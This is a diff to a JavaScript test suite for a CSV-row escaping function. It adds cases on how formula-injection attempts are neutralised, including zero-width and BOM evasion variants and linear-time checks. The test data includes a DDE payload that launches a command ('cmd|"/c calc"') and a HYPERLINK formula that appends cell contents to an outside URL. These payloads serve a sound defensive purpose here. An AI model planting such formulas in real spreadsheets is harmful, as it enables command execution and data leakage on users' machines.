@@ -34,6 +34,11 @@ describe("a row", () => {
     ['=HYPERLINK("https://example.com?"&A1,"x")', `'=HYPERLINK("https://example.com?"&A1,"x")`],
     ['=cmd|"/c calc"!A1', `'=cmd|"/c calc"!A1`],
     ["a;=1", "a;'=1"],
+    ["a; =1", "a; '=1"],
+    ['a;"=1"', `a;"'=1"`],
+    ['a;""=1', `a;""'=1`],
+    ["a;\u200b=1", "a;\u200b'=1"],
+    ["\ufeff\u200b=1", "'\ufeff\u200b=1"],
     ["a\r\n=1", "a\r\n'=1"],
     ["a\t@x", "a\t'@x"],
   ])("a text that is a formula, %j: a text", (text, shown) => {
@@ -41,7 +46,13 @@ describe("a row", () => {
   });
 
   test("a long text of white space and signs: in linear time", () => {
-    for (const text of ["\t".repeat(200_000), ";-".repeat(100_000), " ".repeat(200_000)]) {
+    for (const text of [
+      "\t".repeat(200_000),
+      ";-".repeat(100_000),
+      ';"'.repeat(100_000),
+      "\t".repeat(200_000).concat("="),
+      " ".repeat(200_000),
+    ]) {
       expect(csvRow([text]).length).toBeGreaterThan(200_000);
     }
   });
